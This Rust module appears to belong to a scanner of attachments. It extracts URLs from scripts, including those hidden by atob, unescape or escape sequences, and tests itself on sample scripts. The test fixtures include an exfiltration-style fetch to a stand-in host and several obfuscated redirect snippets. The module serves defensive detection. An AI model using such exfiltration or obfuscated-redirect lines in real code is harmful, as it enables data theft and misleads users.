//! Addresses in scripts of attached pages and drawings: in plain letters, and in texts that the script itself decodes with
//! `atob`, `unescape` and the like, undone once. Nothing is run; what a script computes in other ways stays unseen.
//!
//! ```text
//! location.href = "https:\/\/host.example/x"              https://host.example/x
//! document.write(atob("PGEgaHJlZj0iaHR0cHM6Ly9h..."))     what is encoded there
//! ```

use std::borrow::Cow;

use memchr::{memchr3_iter, memmem};

use super::inspect::Inspector;
use crate::evidence::links::urls_in;
use crate::evidence::{UrlParts, wrappers};
use crate::message::clip;
use crate::text::Words;

/// The shortest encoded text that can be an address.
const SHORT: usize = 12;

/// Keeps the addresses of a script.
pub(super) fn look(inspector: &mut Inspector<'_>, script: &str) {
    let text = spend(inspector, script);
    addresses(inspector, text);
    let calls = |name: &str| memmem::find(text.as_bytes(), name.as_bytes()).is_some();
    let (base64, percent) = (calls("atob"), calls("unescape") || calls("decodeURI"));
    if !base64 && !percent {
        return;
    }
    for literal in literals(text).filter(|literal| literal.len() >= SHORT) {
        let decoded = if base64 && is_encoded(literal) {
            crate::evidence::base64(literal).map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        } else if percent && literal.contains('%') {
            Some(wrappers::unescaped(literal))
        } else {
            None
        };
        if let Some(decoded) = decoded {
            let decoded = spend(inspector, &decoded);
            addresses(inspector, decoded);
        }
    }
}

/// As much of a text as may still be searched.
fn spend<'t>(inspector: &mut Inspector<'_>, text: &'t str) -> &'t str {
    let kept = clip(text, inspector.scripts);
    if kept.len() < text.len() {
        inspector.limits.hit(Words::new(
            "scripts: more of them than are searched for links",
            "スクリプト：多いため一部だけでリンクを探しました",
        ));
    }
    inspector.scripts -= kept.len();
    kept
}

fn addresses(inspector: &mut Inspector<'_>, text: &str) {
    let text = plain(text);
    if memmem::find(text.as_bytes(), b"://").is_none() {
        return;
    }
    for (raw, _) in urls_in(&text, &inspector.most) {
        // What ends the text in a script belongs to a URL elsewhere.
        let end = raw.find(['\'', '"', '`', '\\', '<', '>', ' ', '{', '}', '|', '^']).unwrap_or(raw.len());
        let raw = raw.get(..end).unwrap_or_default().trim_end_matches([')', ';', ',']);
        // Names of vocabularies lead nowhere.
        let vocabulary = raw.contains("://www.w3.org/");
        let leads =
            || UrlParts::of(raw, None).is_some_and(|url| url.address.is_some() || url.domain.host.contains('.'));
        if raw.contains("://") && !vocabulary && leads() {
            inspector.link(raw, None);
        }
    }
}

/// The text with `\/`, `\x2f` and `\u002f` undone.
fn plain(text: &str) -> Cow<'_, str> {
    let escapes = [&b"\\/"[..], b"\\x", b"\\u"];
    if !escapes.iter().any(|escape| memmem::find(text.as_bytes(), escape).is_some()) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((front, behind)) = rest.split_once('\\') {
        out.push_str(front);
        let code = |from: usize, to: usize| {
            behind.get(from..to).and_then(|digits| u32::from_str_radix(digits, 16).ok()).and_then(char::from_u32)
        };
        let (letter, length) = match behind.as_bytes().first() {
            Some(b'/') => (Some('/'), 1),
            Some(b'x') => (code(1, 3), 3),
            Some(b'u') => (code(1, 5), 5),
            _ => (None, 0),
        };
        out.push(letter.unwrap_or('\\'));
        rest = behind.get(if letter.is_some() { length } else { 0 }..).unwrap_or_default();
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Letters as base64 writes them.
fn is_encoded(literal: &str) -> bool {
    literal.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_'))
}

/// What stands between quotation marks; a line end closes all but the slanted ones.
fn literals(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut done = 0;
    memchr3_iter(b'"', b'\'', b'`', bytes).filter_map(move |at| {
        if at < done {
            return None;
        }
        let quote = bytes.get(at).copied()?;
        let start = at + 1;
        let mut end = start;
        loop {
            match bytes.get(end) {
                Some(b'\\') => end += 2,
                Some(b'\n') if quote != b'`' => {
                    // Nothing closes it. Its line is left, so that no line is read again from each of its marks.
                    done = end;
                    return None;
                }
                Some(byte) if *byte == quote => {
                    done = end + 1;
                    return text.get(start..end);
                }
                Some(_) => end += 1,
                None => {
                    done = bytes.len();
                    return None;
                }
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::Limits;

    fn found(script: &str) -> Vec<String> {
        let mut inspector = Inspector::new("", "", &Limits::DEFAULT);
        look(&mut inspector, script);
        inspector.links.into_iter().map(|link| link.raw).collect()
    }

    #[test]
    fn addresses_of_scripts_are_read_in_letters_and_once_decoded() {
        for (script, expected) in [
            ("window.location.href=\"https://hloc.test/x\";", vec!["https://hloc.test/x"]),
            ("fetch('https://exfil.test/collect?a='+b)", vec!["https://exfil.test/collect?a="]),
            ("var u = `https://tick.test/${id}`", vec!["https://tick.test/$"]),
            (r#"{"u":"https:\/\/json.test\/x"}"#, vec!["https://json.test/x"]),
            (r"a='\x68ttps:\x2f\u002fhex.test/y'", vec!["https://hex.test/y"]),
            (
                "document.write(unescape(\"%3Ca%20href%3D%22https%3A%2F%2Funesc.test%2Fx%22%3E\"))",
                vec!["https://unesc.test/x"],
            ),
            ("location=atob('aHR0cHM6Ly9hdG9iLnRlc3QveA==')", vec!["https://atob.test/x"]),
            ("var d='PGEgaHJlZj0iaHR0cHM6Ly92YXIudGVzdC94Ij4='; w(atob(d))", vec!["https://var.test/x"]),
            // Names of vocabularies, names that are put together, texts that nothing decodes, text that is no address.
            ("document.createElementNS('http://www.w3.org/2000/svg','a')", vec![]),
            ("'https://'+host+'/x'; a='http://localhost/x'", vec![]),
            ("var d='aHR0cHM6Ly9hdG9iLnRlc3QveA=='", vec![]),
            ("v='1.2.3'; p='C:\\\\Users\\\\x'; atob('dmVyc2lvbiAxLjIuMyBvZiBpdA==')", vec![]),
            ("it's 'un\nclosed", vec![]),
        ] {
            assert_eq!(found(script), expected, "{script}");
        }
    }

    #[test]
    fn bait_for_readers_of_scripts_ends_soon() {
        for piece in ["'", "\"\\", "atob('", "\\x", "\\u002", "`", "unescape(\"%", "https://'", "\\/"] {
            found(&piece.repeat(1_000_000 / piece.len()));
        }
    }
}
